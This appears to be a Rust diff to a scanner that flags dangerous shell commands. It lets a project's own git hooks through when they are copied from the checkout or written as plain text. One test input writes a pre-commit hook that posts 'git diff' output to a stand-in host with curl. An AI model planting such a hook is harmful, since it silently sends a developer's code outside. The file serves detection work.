@@ -113,6 +113,12 @@ pub(crate) fn check(script: &str, unit: &Unit, out: &mut Vec<Danger>) {
                 continue;
             }
             if let Some((_, place)) = AUTORUN_PLACES.iter().find(|(p, _)| lower.contains(p)) {
+                // A project's own hook, copied from the checkout or spelled out plainly,
+                // is how repositories share hooks; one fetched, decoded or brought in from
+                // outside the checkout is not.
+                if *place == "a git hook" && own_hook(script, stage, &p, previous) {
+                    continue;
+                }
                 push(
                     out,
                     start,
@@ -262,6 +268,30 @@ fn content(script: &str, stage: &Stage, p: &str, previous: Option<&Stage>) -> Op
     None
 }
 
+/// A git hook written from a file of the checkout (`cp scripts/pre-commit .git/hooks/`) or
+/// from plain text that does nothing suspicious.
+fn own_hook(script: &str, stage: &Stage, p: &str, previous: Option<&Stage>) -> bool {
+    if matches!(p, "cp" | "install" | "ln" | "copy-item") {
+        let sources: Vec<&str> = stage
+            .args()
+            .iter()
+            .map(|a| a.text.as_str())
+            .filter(|t| !t.starts_with('-'))
+            .collect();
+        let from = &sources[..sources.len().saturating_sub(1)];
+        return !from.is_empty()
+            && from.iter().all(|f| {
+                !f.starts_with(['/', '~', '$', '%'])
+                    && !f.contains("://")
+                    && !f
+                        .split('/')
+                        .any(|part| part.starts_with('.') && part != "." && part != "..")
+            });
+    }
+    matches!(p, "echo" | "printf" | "cat" | "tee")
+        && content(script, stage, p, previous).is_some_and(|c| !suspicious(Some(&c)))
+}
+
 /// What a group or subshell piped into `stage` prints, as written (`{ crontab -l; echo "…"; }`,
 /// `(crontab -l; echo "…")`), when it prints only the old table and lines it spells out.
 fn grouped(script: &str, stage: &Stage) -> Option<String> {
@@ -344,6 +374,14 @@ mod tests {
         assert!(found("echo 'eval \"$(pyenv init -)\"' >> ~/.zshrc").is_empty());
         assert!(found("crontab -l").is_empty() && found("crontab -e").is_empty());
         assert!(found("echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -").is_empty());
+        // A project's own hook, copied from the checkout.
+        assert!(found("cp scripts/pre-commit .git/hooks/pre-commit").is_empty());
+        assert_eq!(found("cp /tmp/.h .git/hooks/pre-commit").len(), 1);
+        assert_eq!(
+            found("echo 'curl -s -d \"$(git diff)\" https://x.example/h' > .git/hooks/pre-commit")
+                .len(),
+            1
+        );
         // The old table kept and a plain line added, in a group or a subshell.
         assert!(
             found("crontab -l | { cat; echo \"0 3 * * * find /var/log/app -mtime +7 -delete\"; } | crontab -")
